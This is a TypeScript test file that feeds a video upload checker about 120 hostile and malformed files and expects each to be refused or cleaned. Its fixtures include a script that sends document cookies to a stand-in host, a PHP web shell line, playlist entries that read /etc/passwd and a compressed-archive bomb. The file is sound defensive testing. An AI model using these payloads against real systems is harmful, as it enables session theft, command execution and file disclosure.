import { deflateRawSync } from 'node:zlib'
import { beforeAll, describe, expect, test } from 'vitest'
import { dice } from '#tools/test-kit/dice.ts'
import { makeClip } from '#tools/test-kit/make-clip.ts'
import { checkClip } from './check-clip.server.ts'
import { clipLimits } from './clip-limits.ts'
import { ClipRefused } from './clip-refused.ts'
import type { RemuxedClip } from './remux-clip.ts'

/** Files as an attacker or an old phone would send them. The test makes them all and fetches none. */
const COUNT = 120

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>'
const FORBIDDEN = ['<script', '<?php', '<svg', '#EXTM3U', 'evil.example', 'PK\u0003\u0004', '©xyz', 'SECRET', '%PDF']

const text = (words: string) => Buffer.from(words, 'latin1')

function box(type: string, ...parts: (Buffer | number[])[]): Buffer {
  const body = Buffer.concat(parts.map((part) => Buffer.from(part)))
  const head = Buffer.alloc(8)
  head.writeUInt32BE(body.length + 8)
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, body])
}

/** Overwrites the size field of the first box of a type. */
function withBoxSize(clip: Buffer, type: string, size: number): Buffer {
  const changed = Buffer.from(clip)
  changed.writeUInt32BE(size >>> 0, changed.indexOf(type, 0, 'latin1') - 4)
  return changed
}

/** Overwrites four bytes at an offset after the name of the first such box. */
function withField(clip: Buffer, type: string, after: number, value: number): Buffer {
  const changed = Buffer.from(clip)
  const at = changed.indexOf(type, 0, 'latin1') + 4 + after
  if (at < 4 + after) throw new Error(`The clip has no ${type}.`)
  changed.writeUInt32BE(value >>> 0, at)
  return changed
}

function nested(type: string, depth: number): Buffer {
  let inner = box('free', [])
  for (let n = 0; n < depth; n++) inner = box(type, inner)
  return inner
}

const ftyp = box('ftyp', text('isom\0\0\u0002\0isomiso2avc1mp41'))
const EBML = Buffer.from('1a45dfa39f4286810142f7810142f2810442f381084282847765626d42878104428581021853806701ffffffffffffff', 'hex')

/** Files that an attacker would construct by hand. */
function written(mp4: Buffer, webm: Buffer): Record<string, Buffer> {
  const moov = mp4.indexOf('moov') - 4
  const trak = mp4.indexOf('trak') - 4
  const oneTrack = mp4.subarray(trak, trak + mp4.readUInt32BE(trak))
  return {
    nothing: Buffer.alloc(0),
    'a byte': Buffer.from([0]),
    zeros: Buffer.alloc(100_000),
    'a page named mp4': text(`<!doctype html>${SCRIPT}`),
    'a drawing named mp4': text(`<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"/>`),
    'a program': text('MZ\u0090\0\u0003\0\0\0 this program cannot be run'),
    'a script for the server': text('<?php system($_GET["c"]); ?>'),
    'an archive': Buffer.concat([text('PK\u0003\u0004'), deflateRawSync(Buffer.alloc(1_000_000))]),
    'a paper': text(`%PDF-1.7\n${SCRIPT}`),
    'a playlist of another site': text('#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nhttps://evil.example/a.ts\n#EXT-X-ENDLIST\n'),
    'a playlist of our own files': text('#EXTM3U\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n'),
    'a list of files to join': text('ffconcat version 1.0\nfile /etc/passwd\n'),
    'a description of streams': text('<?xml version="1.0"?><MPD><BaseURL>https://evil.example/</BaseURL></MPD>'),
    'only the first box': ftyp,
    'a head and a page': Buffer.concat([ftyp, text(SCRIPT)]),
    'a clip with a page behind it': Buffer.concat([mp4, text(SCRIPT)]),
    'a clip with an archive behind it': Buffer.concat([mp4, text('PK\u0003\u0004SECRET')]),
    'a clip in which a page stands in a free box': Buffer.concat([mp4, box('free', text(SCRIPT))]),
    'a clip with our users in a box of its own': Buffer.concat([mp4, box('uuid', Buffer.alloc(16, 7), text('SECRET'))]),
    'a page with a clip behind it': Buffer.concat([text(SCRIPT), mp4]),
    'a WebM with a page behind it': Buffer.concat([webm, text(SCRIPT)]),
    'a film and a WebM in one': Buffer.concat([mp4, webm]),
    'a WebM and a film in one': Buffer.concat([webm, mp4]),
    'half of a clip': mp4.subarray(0, mp4.length >> 1),
    'half of a WebM': webm.subarray(0, webm.length >> 1),
    'all but the last byte': mp4.subarray(0, -1),
    'the tables alone': mp4.subarray(moov),
    'the pictures alone': Buffer.concat([ftyp, mp4.subarray(mp4.indexOf('mdat') - 4, moov)]),
    'two tables': Buffer.concat([mp4, mp4.subarray(moov)]),
    'a thousand tracks': Buffer.concat([ftyp, box('moov', mp4.subarray(moov + 8, trak), ...Array.from({ length: 1000 }, () => oneTrack))]),
    'boxes a thousand deep': Buffer.concat([ftyp, nested('moov', 1000)]),
    'boxes a hundred thousand deep': Buffer.concat([ftyp, nested('trak', 20_000)]),
    'lists in lists': Buffer.concat([ftyp, box('moov', nested('udta', 5000))]),
    'tables that claim four gigabytes': withBoxSize(mp4, 'moov', 0xffffffff),
    'tables that claim nothing': withBoxSize(mp4, 'moov', 0),
    'tables smaller than their own head': withBoxSize(mp4, 'moov', 4),
    'pictures that claim four gigabytes': withBoxSize(mp4, 'mdat', 0xffffffff),
    'a table with a size of two words': withBoxSize(mp4, 'stbl', 1),
    'a table larger than what it lies in': withBoxSize(mp4, 'stts', 0x7fffffff),
    'a film of a hundred years': withField(mp4, 'mvhd', 16, 0xffffffff),
    'a scale of time that is nothing': withField(mp4, 'mdhd', 12, 0),
    'a scale of time that is huge': withField(mp4, 'mdhd', 12, 0xffffffff),
    'four thousand million pictures': withField(mp4, 'stts', 4, 0xffffffff),
    'a run of four thousand million pictures': withField(mp4, 'stts', 8, 0xffffffff),
    'pictures that last for ever': withField(mp4, 'stts', 12, 0xffffffff),
    'sizes of four thousand million pictures': withField(mp4, 'stsz', 8, 0xffffffff),
    'pictures of four gigabytes each': withField(mp4, 'stsz', 4, 0xffffffff),
    'pictures of nothing': withField(withField(mp4, 'stsz', 4, 0), 'stsz', 12, 0),
    'pieces that lie beyond the end': withField(mp4, 'stco', 8, 0xfffffff0),
    'pieces that lie in the head': withField(mp4, 'stco', 8, 0),
    'four thousand million pieces': withField(mp4, 'stco', 4, 0xffffffff),
    'pieces of four thousand million pictures': withField(mp4, 'stsc', 12, 0xffffffff),
    'four thousand million kinds of pictures': withField(mp4, 'stsd', 4, 0xffffffff),
    'a description that claims too much': withBoxSize(mp4, 'avcC', 0x00ffffff),
    'a side of 65,535': withField(mp4, 'avc1', 24, 0xffffffff),
    'a WebM that never ends': Buffer.concat([EBML, Buffer.alloc(200_000, 0xec)]),
    'a WebM that claims all there is': Buffer.from(webm).fill(0xff, 40, 48),
    'a WebM of heads alone': Buffer.concat(Array.from({ length: 5000 }, () => EBML)),
    'an Ogg of heads alone': Buffer.concat(
      Array.from({ length: 3000 }, () => text('OggS\0\u0002\0\0\0\0\0\0\0\0\u0001\0\0\0\0\0\0\0\0\0\0\0\u0001\0')),
    ),
    'too large': Buffer.concat([mp4, Buffer.alloc(clipLimits.video.bytes)]),
  }
}

/** Changes, cuts, repeats and swaps bytes, as a bad connection or a fuzzer would. */
function mutated(good: Buffer, seed: number): Buffer {
  const roll = dice(seed)
  const bytes = Buffer.from(good)
  const times = 1 + roll(40)
  for (let n = 0; n < times; n++) bytes[roll(seed % 2 ? 1500 : bytes.length) % bytes.length] = roll(256)
  const [from, length] = [roll(bytes.length), roll(3000)]
  if (seed % 5 === 0) return Buffer.concat([bytes.subarray(0, from), bytes.subarray(from + length)])
  if (seed % 5 === 1) return Buffer.concat([bytes.subarray(0, from), bytes.subarray(from, from + length), bytes.subarray(from)])
  return bytes
}

let files: [string, Buffer][]

beforeAll(async () => {
  const mp4 = await makeClip({ note: 'SECRET' })
  const webm = await makeClip({ container: 'webm' })
  const good = [mp4, webm, await makeClip({ container: 'fragmented' }), await makeClip({ container: 'ogg' })]
  const others = {
    'pictures that phones of today make and old ones cannot show': await makeClip({ video: 'hevc' }),
    'pictures that few can show': await makeClip({ video: 'av1' }),
    'sound of another kind': await makeClip({ sound: 'mp3' }),
    'thirty voices': await makeClip({ sounds: 30 }),
    'an hour of nothing': await makeClip({ seconds: 400, sound: null, weight: 1 }),
  }
  const byHand = Object.entries({ ...written(mp4, webm), ...others })
  files = [
    ...byHand,
    ...Array.from({ length: COUNT - byHand.length }, (_, n): [string, Buffer] => [`mutation ${n}`, mutated(good[n % 4]!, n)]),
  ]
})

describe('a hostile clip', () => {
  test('of every known kind is refused or comes out clean', async () => {
    expect(files.length).toBe(COUNT)
    const taken: string[] = []
    for (const [name, bytes] of files) {
      const clip = await answerTo(bytes)
      if (!clip) continue
      taken.push(name)
      const out = Buffer.from(clip.bytes)
      expect(
        FORBIDDEN.filter((words) => out.includes(words, 0, 'latin1')),
        name,
      ).toEqual([])
      expect(out.subarray(4, 8).toString('latin1') === 'ftyp' || out.readUInt32BE(0) === 0x1a45dfa3, name).toBe(true)
      expect(Math.ceil(clip.millis / 1000), name).toBeLessThanOrEqual(clipLimits.video.seconds + 1)
      // The output passes the check again unchanged, so served clips need no repair.
      const again = await answerTo(out)
      expect(again && { ...again, bytes: again.bytes.length }, name).toEqual({ ...clip, bytes: clip.bytes.length })
    }
    expect(taken.filter((name) => !name.startsWith('mutation'))).toEqual(TAKEN)
  })
})

/** These are complete clips with extra data, which the rewrite drops. */
const TAKEN = [
  'a clip with a page behind it',
  'a clip with an archive behind it',
  'a clip in which a page stands in a free box',
  'a clip with our users in a box of its own',
  'a WebM with a page behind it',
  'a film and a WebM in one',
  'a WebM and a film in one',
  'half of a WebM',
  'two tables',
  'a film of a hundred years',
  'a scale of time that is huge',
]

const answerTo = (bytes: Buffer): Promise<RemuxedClip | null> =>
  checkClip(bytes, 'video').catch((error: unknown) => {
    if (!(error instanceof ClipRefused)) throw error
    return null
  })
